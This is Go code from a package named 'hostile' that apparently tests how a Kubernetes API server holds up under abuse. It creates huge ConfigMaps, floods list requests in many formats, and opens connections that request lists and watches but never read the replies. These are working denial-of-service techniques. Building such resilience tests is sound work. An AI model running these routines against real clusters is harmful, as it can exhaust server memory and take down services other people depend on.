package hostile

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
)

// hugeObjects is how many objects of 900 KB there are to be listed.
const hugeObjects = 24

func prepareLists(ctx context.Context, c *kubernetes.Clientset) error {
	for i := range hugeObjects {
		if _, err := c.CoreV1().ConfigMaps("default").Create(ctx, hugeObject(i), metav1.CreateOptions{}); err != nil {
			return err
		}
	}
	return nil
}

func hugeObject(i int) *corev1.ConfigMap {
	return &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("huge-%d", i), Labels: map[string]string{"attack": "1"}},
		Data:       map[string]string{"k": strings.Repeat("x", 900<<10)},
	}
}

// listAccepts are the shapes in which lists are asked for.
var listAccepts = []string{
	typeJSON, typeProtobuf, typeYAML, typeJSON + ";as=Table;g=meta.k8s.io;v=v1",
	typeJSON + ";as=PartialObjectMetadataList;g=meta.k8s.io;v=v1",
}

// hugeLists lists by many clients at once, in every shape.
func hugeLists(ctx context.Context, a *attacker) error {
	webs := []*http.Client{a.web(a.admin, false), a.web(a.admin, true)}
	a.again(ctx, 50, func(ctx context.Context, i int) {
		r := request{method: "GET", path: configMaps, header: http.Header{"Accept": {listAccepts[i%len(listAccepts)]}}}
		switch i % 7 {
		case 0:
			r.header.Set("Accept-Encoding", "gzip")
		case 1:
			r.path += "?pretty=1"
		case 2:
			r.path += "?includeObject=Object"
		}
		a.send(ctx, webs[i%2], r)
	})
	return nil
}

// unreadLists asks for lists and reads nothing of them.
func unreadLists(ctx context.Context, a *attacker) error {
	a.many(ctx, connections()/20, 16, func(ctx context.Context, i int) {
		a.ask(ctx, "GET "+configMaps+" HTTP/1.1\r\nHost: x\r\nAccept: "+listAccepts[i%len(listAccepts)]+"\r\n\r\n")
	})
	<-ctx.Done()
	return nil
}

// ask makes a request on a connection that nobody will read from.
func (a *attacker) ask(ctx context.Context, text string) {
	raw, err := (&net.Dialer{Control: smallBuffers}).DialContext(ctx, "tcp", a.address)
	if err != nil {
		a.meet("refused")
		return
	}
	conn, err := a.shake(ctx, raw)
	if err != nil {
		a.meet("no handshake")
		return
	}
	if _, err := io.WriteString(conn, text); err != nil {
		a.meet("closed")
		return
	}
	a.meet("asked")
	context.AfterFunc(ctx, func() { _ = conn.Close() })
}

// hugeWatches watches huge objects while they change: some read, some do not.
func hugeWatches(ctx context.Context, a *attacker) error {
	watches := connections() / 5
	web := a.web(a.admin, true)
	a.many(ctx, watches, 64, func(ctx context.Context, i int) {
		if i%2 == 0 {
			a.ask(ctx, "GET "+configMaps+"?watch=1 HTTP/1.1\r\nHost: x\r\nAccept: "+[]string{typeJSON, typeProtobuf}[i/2%2]+"\r\n\r\n")
			return
		}
		if i%20 == 1 {
			go a.send(ctx, web, request{method: "GET", path: configMaps + "?watch=1"}) // ends with the context
		}
	})
	a.again(ctx, 2, func(ctx context.Context, i int) {
		name := fmt.Sprintf("/huge-%d", i)
		a.send(ctx, web, request{method: "PATCH", path: configMaps + name, contentType: typeMerge,
			body: strings.NewReader(fmt.Sprintf(`{"metadata":{"annotations":{"at":"%d"}}}`, time.Now().UnixNano()))})
	})
	return nil
}
